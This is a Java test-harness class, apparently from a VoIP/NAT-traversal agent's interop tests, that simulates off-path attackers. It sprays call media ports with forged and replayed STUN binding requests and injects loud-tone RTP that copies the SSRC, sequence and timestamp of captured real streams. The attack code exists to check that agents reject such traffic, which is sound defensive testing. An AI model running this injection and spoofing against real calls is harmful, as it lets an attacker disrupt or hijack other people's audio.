package net.sippunch.agent.interop;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import net.sippunch.agent.media.Codec;
import net.sippunch.agent.media.RtpPacket;
import net.sippunch.traversal.stun.MessageIntegrityKey;
import net.sippunch.traversal.stun.StunAttribute;
import net.sippunch.traversal.stun.StunCodec;
import net.sippunch.traversal.stun.StunDecodeResult;
import net.sippunch.traversal.stun.StunMessage;
import net.sippunch.traversal.stun.StunMethod;
import net.sippunch.traversal.stun.TransactionId;

/**
 * Hosts that attack a call's media ports without being on the path: one UDP socket per attacker address
 * sprays every port of the target ranges, sweep after sweep, with forged STUN probes (no
 * MESSAGE-INTEGRITY; a wrong key), replays of the real probes and acknowledgements it saw, and RTP in the
 * call's codec carrying a loud tone, with the real stream's SSRC, sequence and timestamp once it saw them
 * (random SSRCs before). What it sees comes from {@link #observe} (a capture of the agents' traffic);
 * everything that arrives on its sockets is counted: a correct agent sends it nothing.
 */
final class MediaAttacker implements AutoCloseable {

    /** What a forged datagram is. */
    enum Kind { STUN_WITHOUT_INTEGRITY, STUN_WRONG_KEY, STUN_REPLAY, RTP }

    /** A port range on one target host. */
    record Target(InetAddress host, int portMin, int portMax) {
        boolean contains(int port) {
            return port >= portMin && port <= portMax;
        }
    }

    /** The last RTP of the real stream seen towards one port. */
    private record Stream(long ssrc, int sequence, long timestamp) {
    }

    private static final long SWEEP_NANOS = 20_000_000L;

    private final List<DatagramSocket> sockets = new ArrayList<>();
    private final List<Target> targets;
    private final Codec codec;
    private final byte[] toneFrame;
    private final Random random = new Random(7);
    private final Map<Kind, AtomicLong> sent = new EnumMap<>(Kind.class);
    private final AtomicLong sweeps = new AtomicLong();
    private final AtomicLong sendFailures = new AtomicLong();
    private final AtomicLong received = new AtomicLong();
    private final List<String> receivedFrom = Collections.synchronizedList(new ArrayList<>());
    private final Map<Integer, byte[]> capturedStun = new ConcurrentHashMap<>();
    private final Map<Integer, Stream> streams = new ConcurrentHashMap<>();
    private final Map<Integer, String> usernames = new ConcurrentHashMap<>();
    private final List<Thread> threads = new ArrayList<>();
    private volatile boolean spraying = true;
    private volatile boolean open = true;

    /**
     * @param from    the attackers' addresses, one socket each (any free port)
     * @param targets the port ranges sprayed
     * @param toneHz  the frequency of the forged audio
     */
    MediaAttacker(List<InetAddress> from, List<Target> targets, Codec codec, double toneHz) throws SocketException {
        this.targets = List.copyOf(targets);
        this.codec = codec;
        short[] pcm = new short[160];
        for (int i = 0; i < pcm.length; i++) {
            pcm[i] = (short) (0.8 * 32767 * Math.sin(2 * Math.PI * toneHz * i / Codec.CLOCK_RATE));
        }
        this.toneFrame = codec.encode(pcm); // 20 ms of a whole number of periods at 2500 Hz: frames join smoothly
        for (Kind k : Kind.values()) {
            sent.put(k, new AtomicLong());
        }
        for (InetAddress address : from) {
            DatagramSocket socket = new DatagramSocket(new InetSocketAddress(address, 0));
            socket.setSoTimeout(100);
            sockets.add(socket);
        }
    }

    /** Starts a receiver per socket and the spraying thread. */
    MediaAttacker start() {
        for (DatagramSocket socket : sockets) {
            threads.add(new Thread(() -> receive(socket), "attacker-rx-" + socket.getLocalSocketAddress()));
        }
        threads.add(new Thread(this::spray, "attacker-spray"));
        threads.forEach(t -> {
            t.setDaemon(true);
            t.start();
        });
        return this;
    }

    /**
     * A datagram between the agents, seen by a capture: probes and acknowledgements are kept for replay, RTP
     * gives the stream's SSRC, sequence and timestamp, a probe's USERNAME is reused with a wrong key.
     */
    void observe(int destinationPort, byte[] payload) {
        if (StunCodec.looksLikeStun(payload)) {
            if (StunCodec.decode(payload) instanceof StunDecodeResult.Decoded d && d.message().method() == StunMethod.BINDING) {
                capturedStun.put(destinationPort, payload);
                d.message().attribute(StunAttribute.Username.class)
                        .ifPresent(u -> usernames.put(destinationPort, u.value()));
            }
            return;
        }
        Optional<RtpPacket> rtp = RtpPacket.decode(payload);
        if (rtp.isPresent() && rtp.get().payloadType() == codec.payloadType()) {
            streams.put(destinationPort, new Stream(rtp.get().ssrc(), rtp.get().sequence(), rtp.get().timestamp()));
        }
    }

    /** Sweeps over all targets completed so far. */
    long sweeps() {
        return sweeps.get();
    }

    long sent(Kind kind) {
        return sent.get(kind).get();
    }

    long sendFailures() {
        return sendFailures.get();
    }

    /** Datagrams that arrived on any attacker socket. */
    long received() {
        return received.get();
    }

    /** Where the first datagrams that reached the attackers came from (a few). */
    List<String> receivedFrom() {
        synchronized (receivedFrom) {
            return List.copyOf(receivedFrom);
        }
    }

    /** How many real RTP streams and probes the capture gave the attacker to work with. */
    String learned() {
        return streams.size() + " streams, " + capturedStun.size() + " captured STUN messages, usernames "
                + usernames.values();
    }

    /** Stops spraying; the receivers keep counting until {@link #close}. */
    void stopSpraying() {
        spraying = false;
    }

    private void spray() {
        long next = System.nanoTime();
        while (spraying) {
            for (Target target : targets) {
                for (int port = target.portMin(); port <= target.portMax() && spraying; port++) {
                    InetSocketAddress to = new InetSocketAddress(target.host(), port);
                    for (DatagramSocket socket : sockets) {
                        send(socket, to, Kind.RTP, rtp(port));
                        Kind stun = Kind.values()[(int) (sweeps.get() % 3)];
                        byte[] forged = stun(stun, port);
                        if (forged != null) {
                            send(socket, to, stun, forged);
                        }
                    }
                }
            }
            sweeps.incrementAndGet();
            next += SWEEP_NANOS;
            long wait = next - System.nanoTime();
            if (wait > 0) {
                LockSupport.parkNanos(wait); // pacing, not synchronisation
            } else {
                next = System.nanoTime();
            }
        }
    }

    private byte[] rtp(int port) {
        Stream real = streams.get(port);
        RtpPacket p = real == null
                ? new RtpPacket(codec.payloadType(), false, random.nextInt(1 << 16), random.nextInt() & 0xFFFFFFFFL,
                        random.nextInt() & 0xFFFFFFFFL, toneFrame)
                : new RtpPacket(codec.payloadType(), false, (real.sequence() + 1) & 0xFFFF,
                        (real.timestamp() + 160) & 0xFFFFFFFFL, real.ssrc(), toneFrame);
        return p.encode();
    }

    private byte[] stun(Kind kind, int port) {
        TransactionId id = TransactionId.random(random);
        String username = usernames.getOrDefault(port, "guess:" + Integer.toHexString(random.nextInt()));
        List<StunAttribute> attributes = List.of(new StunAttribute.Username(username),
                new StunAttribute.IceControlling(random.nextLong()), new StunAttribute.UseCandidate());
        return switch (kind) {
            case STUN_WITHOUT_INTEGRITY -> StunCodec.encode(StunMessage.bindingRequest(id, attributes));
            case STUN_WRONG_KEY -> StunCodec.encode(StunMessage.bindingRequest(id, attributes),
                    MessageIntegrityKey.shortTerm(Long.toHexString(random.nextLong()) + "wrongpassword",
                            MessageIntegrityKey.Algorithm.SHA1), true);
            case STUN_REPLAY -> capturedStun.get(port);
            case RTP -> throw new IllegalArgumentException("not STUN");
        };
    }

    private void send(DatagramSocket socket, InetSocketAddress to, Kind kind, byte[] datagram) {
        try {
            socket.send(new DatagramPacket(datagram, datagram.length, to));
            sent.get(kind).incrementAndGet();
        } catch (IOException e) {
            sendFailures.incrementAndGet(); // a full socket buffer: the next sweep tries again
        }
    }

    private void receive(DatagramSocket socket) {
        byte[] buffer = new byte[2048];
        while (open) {
            DatagramPacket packet = new DatagramPacket(buffer, buffer.length);
            try {
                socket.receive(packet);
            } catch (SocketTimeoutException e) {
                continue;
            } catch (IOException e) {
                if (open) {
                    receivedFrom.add("receive failed: " + e);
                }
                return;
            }
            received.incrementAndGet();
            if (receivedFrom.size() < 20) {
                receivedFrom.add(describe(packet) + " -> " + socket.getLocalSocketAddress());
            }
        }
    }

    private static String describe(DatagramPacket packet) {
        byte[] d = Arrays.copyOfRange(packet.getData(), packet.getOffset(),
                packet.getOffset() + packet.getLength());
        String what;
        if (StunCodec.decode(d) instanceof StunDecodeResult.Decoded s) {
            what = "STUN " + s.message().method() + " " + s.message().type();
        } else if (RtpPacket.decode(d).isPresent()) {
            what = "RTP " + RtpPacket.decode(d).get();
        } else {
            what = d.length + " other bytes";
        }
        return what + " from " + packet.getSocketAddress();
    }

    @Override
    public void close() throws InterruptedException {
        spraying = false;
        open = false;
        for (Thread t : threads) {
            t.join(TimeUnit.SECONDS.toMillis(2));
        }
        sockets.forEach(DatagramSocket::close);
    }
}
